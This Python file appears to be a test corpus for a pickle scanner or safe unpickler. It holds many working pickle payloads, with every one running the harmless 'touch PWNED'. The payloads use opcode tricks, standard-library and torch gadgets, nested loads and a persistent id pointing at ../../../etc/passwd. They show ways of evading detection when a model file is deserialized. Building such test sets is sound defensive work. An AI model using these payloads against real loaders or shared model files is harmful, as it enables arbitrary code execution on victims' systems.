"""Ways in which a pickle makes Python run something. Every payload is `touch PWNED`."""
from typing import NamedTuple

from opcodes import (call, data, dict_of, integer, list_of, name, pickled, short_text, stack_name, text, tuple_of)

COMMAND = "touch PWNED"
CODE = "__import__('os').system('touch PWNED')"
ARGUMENT = tuple_of(text(COMMAND))
SYSTEM = name("posix.system")


class Attack(NamedTuple):
    group: str
    label: str
    value: bytes  # opcodes that leave one value
    imports: tuple
    protocol: int = 2
    runs: bool = True  # a plain unpickler runs the payload
    reason: str = ""  # what a refusal names when it names no import


def import_opcodes():
    """How a name is imported."""
    group = "import"
    system = ("posix.system",)
    for label, value, protocol in (
        ("GLOBAL", SYSTEM + ARGUMENT + b"R", 2),
        ("STACK_GLOBAL", stack_name("posix", "system") + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of memoized strings", short_text("posix") + b"\x940" + short_text("system") + b"\x940h\x00h\x01\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of a memo set twice", short_text("collections") + b"q\x050" + short_text("posix") + b"q\x050" +
         short_text("system") + b"q\x060h\x05h\x06\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of strings put by PUT", b"Vposix\np7\n0Vsystem\np8\n0g7\ng8\n\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of long strings", b"\x8d" + (5).to_bytes(8, "little") + b"posix" + text("system") + b"\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of old strings", b"S'posix'\nU\x06system\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL with values between", short_text("posix") + b"N0(\x88\x891" + short_text("system") + b"\x93" + ARGUMENT + b"R", 4),
        ("STACK_GLOBAL of a popped and memoized name", b"}" + short_text("posix") + b"\x940" + short_text("system") + b"\x9400h\x00h\x01\x93" + ARGUMENT + b"R", 4),
        ("name memoized, then called", SYSTEM + b"q\x000h\x00" + ARGUMENT + b"R", 2),
        ("name doubled by DUP", SYSTEM + b"20" + ARGUMENT + b"R", 2),
    ):
        yield Attack(group, label, value, system, protocol)
    yield Attack(group, "INST", b"(S'touch PWNED'\niposix\nsystem\n", system)
    yield Attack(group, "OBJ", b"(" + SYSTEM + text(COMMAND) + b"o", system)
    yield Attack(group, "dotted name", stack_name("logging", "os.system") + ARGUMENT + b"R", ("logging.os.system",), 4)
    yield Attack(group, "dotted name of an allowed class", stack_name("collections", "OrderedDict.fromkeys"),
                 ("collections.OrderedDict.fromkeys",), 4, runs=False)
    for opcode, argument in ((b"\x82", b"\x01"), (b"\x83", b"\x01\x01"), (b"\x84", b"\x01\x01\x01\x01")):
        number = int.from_bytes(argument, "little")
        yield Attack(group, f"EXT{len(argument)}", opcode + argument + ARGUMENT + b"R", (f"copyreg.extension {number}",),
                     runs=False)


def call_opcodes():
    """How something is called without REDUCE, or by what seems harmless."""
    group = "call"
    mapped = name("builtins.map") + tuple_of(SYSTEM, list_of(text(COMMAND)))
    gadget = ("builtins.map", "posix.system", "builtins.bytes")
    yield Attack(group, "NEWOBJ", name("builtins.bytes") + mapped + b"\x81\x85\x81", gadget)
    yield Attack(group, "NEWOBJ_EX", name("builtins.bytes") + tuple_of(mapped + b"}\x92") + b"}\x92", gadget, 4)
    namespace = call(name("types.SimpleNamespace"))
    setter = dict_of(text("__setstate__"), SYSTEM)
    yield Attack(group, "BUILD of __setstate__", namespace + setter + b"b" + text(COMMAND) + b"b",
                 ("types.SimpleNamespace", "posix.system"), reason="sets the state")
    yield Attack(group, "BUILD of an import", name("collections.OrderedDict") + b"N" + dict_of(text("x"), b"N") + b"\x86b", (),
                 runs=False, reason="sets the state of the import")
    yield Attack(group, "result of a call called", call(call(name("builtins.getattr"), call(name("builtins.__import__"), text("os")),
                 text("system")), text(COMMAND)), ("builtins.getattr", "builtins.__import__"))
    yield Attack(group, "functools.partial", call(call(name("functools.partial"), SYSTEM, text(COMMAND))), ("functools.partial", "posix.system"))
    yield Attack(group, "operator.methodcaller", call(call(name("operator.methodcaller"), text("system"), text(COMMAND)),
                 call(name("importlib.import_module"), text("os"))), ("operator.methodcaller", "importlib.import_module"))
    yield Attack(group, "pickle in a pickle", call(name("_pickle.loads"), data(pickled(SYSTEM + ARGUMENT + b"R"))), ("_pickle.loads",), 3)
    yield Attack(group, "torch's own loader", call(name("torch.storage._load_from_bytes"), data(pickled(SYSTEM + ARGUMENT + b"R"))),
                 ("torch.storage._load_from_bytes",), 3, runs=False)
    yield Attack(group, "exec by its name in Python 2", call(name("__builtin__.eval"), text(CODE)), ("__builtin__.eval",))


# What runs only later, not in every installation, or not without arguments that fit.
UNCERTAIN = ("os.popen", "_posixsubprocess.fork_exec", "trace.Trace.run", "test.support.script_helper.assert_python_ok")


def gadgets():
    """Names of the standard library that run a text."""
    for dotted, *arguments in (
        ("builtins.eval", text(CODE)),
        ("builtins.exec", text(CODE)),
        ("os.system", text(COMMAND)),
        ("os.popen", text(COMMAND)),
        ("subprocess.getoutput", text(COMMAND)),
        ("subprocess.check_call", list_of(text("touch"), text("PWNED"))),
        ("runpy._run_code", text(CODE), b"}"),
        ("timeit.timeit", text("pass"), text(CODE)),
        ("timeit.repeat", text("pass"), text(CODE)),
        ("cProfile.run", text(CODE)),
        ("profile.run", text(CODE)),
        ("trace.Trace.run", text(CODE)),
        ("pydoc.pipepager", text(""), text(COMMAND)),
        ("_posixsubprocess.fork_exec",),
        ("test.support.script_helper.assert_python_ok", text("-c"), text(CODE)),
        ("torch.hub.load", text("x/y"), text("z")),
        ("torch._dynamo.testing.run_and_get_code", text(CODE)),
    ):
        certain = dotted not in UNCERTAIN and not dotted.startswith("torch")
        yield Attack("gadget", dotted, call(name(dotted), *arguments), (dotted,), runs=certain)


def references():
    """Persistent ids: what a reader looks up outside of the pickle."""
    group = "persistent id"
    yield Attack(group, "PERSID of a text", b"Ptouch PWNED\n", (), runs=False, reason="outside of it")
    yield Attack(group, "BINPERSID of a call", SYSTEM + ARGUMENT + b"RQ", ("posix.system",), reason="outside of it")
    for label, kind, imported in (("storage of a foreign type", SYSTEM, "posix.system"),
                                  ("storage type of a module below torch", name("torch.evil.FloatStorage"), "torch.evil.FloatStorage")):
        value = tuple_of(text("storage"), kind, text("0"), text("cpu"), integer(4)) + b"Q"
        yield Attack(group, label, value, (imported,), runs=False)
    escape = tuple_of(text("storage"), name("torch.FloatStorage"), text("../../../etc/passwd"), text("cpu"), integer(4)) + b"Q"
    yield Attack(group, "storage with a path for a key", escape, (), runs=False, reason="missing")


def all_attacks():
    for family in (import_opcodes, call_opcodes, gadgets, references):
        yield from family()
